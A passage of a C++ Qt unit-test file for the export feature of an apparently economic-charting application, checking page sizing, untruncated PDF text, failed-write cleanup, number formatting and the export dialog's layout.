    const auto bytes = cliff::ui::renderExport(subject(EconomicView::Moat), options);
    QVERIFY(!bytes.ok());
    QVERIFY2(QString::fromStdString(bytes.error().message).contains(message), bytes.error().message.c_str());
}

void TestExport::pageGrowsToHoldEveryChart()
{
    ExportOptions options = optionsFor(ExportFormat::Png);
    options.widthPx = 1280;
    options.heightPx = 720;
    options.dpi = 96;
    // One chart fits the page asked for; five stacked charts do not, and the page grows.
    const auto single = cliff::ui::renderExport(subject(EconomicView::FiberJevons), options);
    QVERIFY(single.ok());
    QCOMPARE(QImage::fromData(*single).size(), QSize(1280, 720));
    const auto all = subject(EconomicView::FiberJevons, "all");
    QCOMPARE(all.charts.size(), std::size_t(5));
    const auto stacked = cliff::ui::renderExport(all, options);
    QVERIFY(stacked.ok());
    const QImage page = QImage::fromData(*stacked);
    QCOMPARE(page.width(), 1280);
    // At least 340 px a chart at this scale, more than the 720 asked for.
    QVERIFY2(page.height() > 5 * 340, std::to_string(page.height()).c_str());
    QCOMPARE(cliff::ui::withRoomForCharts(all, options).heightPx, page.height());
    // A page with room is left as asked.
    options.heightPx = 4000;
    QCOMPARE(cliff::ui::withRoomForCharts(all, options).heightPx, 4000);
}

void TestExport::projectorExportsElideNoText_data()
{
    QTest::addColumn<EconomicView>("view");
    QTest::addColumn<QSize>("size");
    for (EconomicView view : cliff::econ::economicViews()) {
        for (const QSize size : {QSize(1280, 720), QSize(480, 800)}) {
            const std::string name = std::string(cliff::econ::economicViewKey(view)) + " at " +
                                     std::to_string(size.width()) + " px";
            QTest::newRow(name.c_str()) << view << size;
        }
    }
}

void TestExport::projectorExportsElideNoText()
{
    // Every chart of a view on one page, on a projector and at phone width, read back as text: no
    // label, tick, legend entry or title is cut short. Only the source line may end early, and
    // it says where the rest is.
    QFETCH(EconomicView, view);
    QFETCH(QSize, size);
    ExportOptions options = optionsFor(ExportFormat::Pdf);
    options.widthPx = size.width();
    options.heightPx = size.height();
    QTemporaryDir dir;
    const QString pdf = dir.filePath(QStringLiteral("page.pdf"));
    QVERIFY(cliff::ui::exportToFile(subject(view, "all"), options, pdf, false).ok());
    QProcess pdftotext;
    pdftotext.start(QStringLiteral("pdftotext"), {pdf, QStringLiteral("-")});
    QVERIFY2(pdftotext.waitForFinished(300000), "pdftotext (poppler-utils) did not run");
    const QString text = QString::fromUtf8(pdftotext.readAllStandardOutput());
    QVERIFY(text.contains(QStringLiteral("Figures as of")));
    for (const QString &line : text.split(QLatin1Char('\n'))) {
        if (line.endsWith(QStringLiteral("(every source is in the CSV)")))
            continue;
        QVERIFY2(!line.contains(QStringLiteral("\u2026")) && !line.contains(QStringLiteral("...")),
                 qPrintable(line));
    }

    // Every word lies on the page: a bar's name too long for its column would start left of it.
    QProcess boxes;
    boxes.start(QStringLiteral("pdftotext"), {QStringLiteral("-bbox"), pdf, QStringLiteral("-")});
    QVERIFY(boxes.waitForFinished(300000));
    const QString xhtml = QString::fromUtf8(boxes.readAllStandardOutput());
    const QRegularExpression pageBox(QStringLiteral(R"re(<page width="([\d.]+)" height="([\d.]+)")re"));
    const QRegularExpressionMatch page = pageBox.match(xhtml);
    QVERIFY(page.hasMatch());
    const double pageWidth = page.captured(1).toDouble();
    const double pageHeight = page.captured(2).toDouble();
    const QRegularExpression wordBox(QStringLiteral(
        R"re(<word xMin="([-\d.]+)" yMin="([-\d.]+)" xMax="([-\d.]+)" yMax="([-\d.]+)">([^<]*)</word>)re"));
    int words = 0;
    for (const QRegularExpressionMatch &word : wordBox.globalMatch(xhtml)) {
        ++words;
        const bool onPage = word.captured(1).toDouble() >= 0.0 && word.captured(2).toDouble() >= 0.0
                            && word.captured(3).toDouble() <= pageWidth
                            && word.captured(4).toDouble() <= pageHeight;
        QVERIFY2(onPage, qPrintable(word.captured(5) + QStringLiteral(" at x ") + word.captured(1)));
    }
    QVERIFY(words > 50);
}

void TestExport::failedWritesLeaveNoFile()
{
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const auto exported = subject(EconomicView::FiberJevons);
    // Into a folder that does not exist, and onto a path that is a folder.
    const QString missing = dir.filePath(QStringLiteral("no-such-folder/chart.png"));
    QVERIFY(!cliff::ui::exportToFile(exported, optionsFor(ExportFormat::Png), missing, true).ok());
    QVERIFY(!QFile::exists(missing));
    QVERIFY(QDir().mkdir(dir.filePath(QStringLiteral("taken"))));
    QVERIFY(!cliff::ui::exportToFile(exported, optionsFor(ExportFormat::Svg), dir.filePath(QStringLiteral("taken")), false).ok());
    // A bad size fails before anything is written.
    ExportOptions bad = optionsFor(ExportFormat::Pdf);
    bad.widthPx = 10;
    QVERIFY(!cliff::ui::exportToFile(exported, bad, dir.filePath(QStringLiteral("chart.pdf")), true).ok());
    QCOMPARE(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden), QStringList());

    // A good export writes the file and its alt text, and nothing else.
    const QString good = dir.filePath(QStringLiteral("chart.csv"));
    QVERIFY(cliff::ui::exportToFile(exported, optionsFor(ExportFormat::Csv), good, true).ok());
    QCOMPARE(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden),
             (QStringList{QStringLiteral("chart.csv"), QStringLiteral("chart.csv.alt.txt")}));
    QFile alt(cliff::ui::altTextPath(good));
    QVERIFY(alt.open(QIODevice::ReadOnly));
    QCOMPARE(alt.readAll(), QByteArray::fromStdString(cliff::plot::altText(exported) + "\n"));
}

void TestExport::quantitiesReadOneWay_data()
{
    QTest::addColumn<double>("value");
    QTest::addColumn<QString>("unit");
    QTest::addColumn<QString>("text");
    QTest::newRow("billions") << 790.0 << "US$ billions" << "$790B";
    QTest::newRow("trillions") << 2450.0 << "US$ billions" << "$2.45T";
    QTest::newRow("bands") << 164055.0 << "US$ billions" << "$164T";
    QTest::newRow("negative") << -12.5 << "US$ billions" << "-$12.5B";
    QTest::newRow("millions") << 5.576 << "US$ millions" << "$5.58M";
    QTest::newRow("price") << 0.28 << "US$ per 1M tokens" << "$0.28 per 1M tokens";
    QTest::newRow("tiny price") << 0.0003 << "US$ per 1M tokens" << "$0.0003 per 1M tokens";
    QTest::newRow("share") << 96.666667 << "%" << "96.7%";
    QTest::newRow("multiple") << 12.0 << "x base year" << "12\u00d7 base year";
    QTest::newRow("months") << 18.0 << "months" << "18 months";
    QTest::newRow("large count") << 4000000.0 << "tokens/s" << "4,000,000 tokens/s";
}

void TestExport::quantitiesReadOneWay()
{
    QFETCH(double, value);
    QFETCH(QString, unit);
    QFETCH(QString, text);
    QCOMPARE(QString::fromStdString(cliff::plot::quantityText(value, unit.toStdString())), text);
    // Headlines write multiples the same way.
    const QString headline = QString::fromStdString(subject(EconomicView::CostCurves).plot.headline);
    QVERIFY2(headline.contains(QStringLiteral("\u00d7 a year")) && !headline.contains(QStringLiteral("x a year")),
             qPrintable(headline));
}

// On a 1280x720 screen the whole dialog shows at its default size, and at its smallest the
// Export and Close buttons are still in it and the alt text never covers the preview.
void TestExport::dialogFitsAProjector()
{
    const QSize projector(1280, 720);
    cliff::Session session(m_figures, m_sources);
    cliff::ui::ExportDialog dialog(session, EconomicView::RevenueGap);
    dialog.show();
    QVERIFY(QTest::qWaitForWindowExposed(&dialog));
    QVERIFY2(dialog.width() <= projector.width() && dialog.height() <= projector.height(),
             qPrintable(QStringLiteral("%1x%2").arg(dialog.width()).arg(dialog.height())));
    const QSize minimum = dialog.minimumSizeHint().expandedTo(dialog.minimumSize());
    QVERIFY2(minimum.width() <= projector.width() && minimum.height() <= projector.height(),
             qPrintable(QStringLiteral("%1x%2").arg(minimum.width()).arg(minimum.height())));

    for (const QSize size : {dialog.size(), minimum}) {
        dialog.resize(size);
        QCoreApplication::sendPostedEvents();
        QCoreApplication::processEvents();
        auto *buttons = dialog.findChild<QDialogButtonBox *>();
        QVERIFY(buttons);
        for (QAbstractButton *button : buttons->buttons()) {
            const QRect shown(button->mapTo(&dialog, QPoint(0, 0)), button->size());
            QVERIFY2(dialog.rect().contains(shown), qPrintable(button->text()));
        }
        auto *preview = dialog.findChild<QWidget *>(QStringLiteral("preview"));
        auto *alt = dialog.findChild<QWidget *>(QStringLiteral("altText"));
        QVERIFY(preview && alt);
        const QRect previewRect(preview->mapTo(&dialog, QPoint(0, 0)), preview->size());
        const QRect altRect(alt->mapTo(&dialog, QPoint(0, 0)), alt->size());
        QVERIFY(!previewRect.intersects(altRect));
    }
}

void TestExport::dialogExportsThroughTheSharedPath()
{
    cliff::Session session(m_figures, m_sources);
    QVERIFY(session.setAssumption(cliff::econ::AssumptionId::RecoveryRate, 0.2).ok());
    cliff::ui::ExportDialog dialog(session, EconomicView::Fragility);
    dialog.show();

    QCOMPARE(dialog.chartKey(), QStringLiteral("fragility-ranking"));
    const auto shown = subject(EconomicView::Fragility, {}, session.scenario());
    QCOMPARE(dialog.altText(), QString::fromStdString(cliff::plot::altText(shown)));
    QCOMPARE(dialog.citations().size(), shown.citedSources().size() + 1);
    auto *citeShort = dialog.findChild<QPlainTextEdit *>(QStringLiteral("citeShort"));
    QVERIFY(citeShort);
    QCOMPARE(citeShort->toPlainText(), QString::fromStdString(dialog.citations().front().shortText));

    // Every chart of the view at once makes the page taller.
    auto *chart = dialog.findChild<QComboBox *>(QStringLiteral("chart"));
    auto *height = dialog.findChild<QSpinBox *>(QStringLiteral("height"));
    QVERIFY(chart && height);
    chart->setCurrentIndex(chart->findData(QStringLiteral("all")));
    QCOMPARE(height->value(), cliff::ui::defaultHeightPx(2));
    chart->setCurrentIndex(chart->findData(QStringLiteral("implied-default")));
    QCOMPARE(height->value(), 800);

    auto *format = dialog.findChild<QComboBox *>(QStringLiteral("format"));
    auto *dpi = dialog.findChild<QSpinBox *>(QStringLiteral("dpi"));
    auto *title = dialog.findChild<QLineEdit *>(QStringLiteral("title"));
    QVERIFY(format && dpi && title);
    format->setCurrentIndex(format->findData(QStringLiteral("png")));
    dpi->setValue(96);
    title->setText(QStringLiteral("Who pays when the credit turns"));
    QCOMPARE(dialog.options().title, QStringLiteral("Who pays when the credit turns"));

    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("dialog.png"));
    QVERIFY(dialog.exportTo(path).ok());
    const QImage image(path);
    QCOMPARE(image.size(), QSize(1200, 800));

    // The dialog's PNG is the command line's PNG for the same inputs.
    ExportOptions same;
    same.dpi = 96;
    same.title = QStringLiteral("Who pays when the credit turns");
    const auto expected = cliff::ui::renderExport(subject(EconomicView::Fragility, "implied-default", session.scenario()), same);
    QFile written(path);
    QVERIFY(written.open(QIODevice::ReadOnly));
    QVERIFY(written.readAll() == *expected);
}

QTEST_MAIN(TestExport)
#include "test_export.moc"
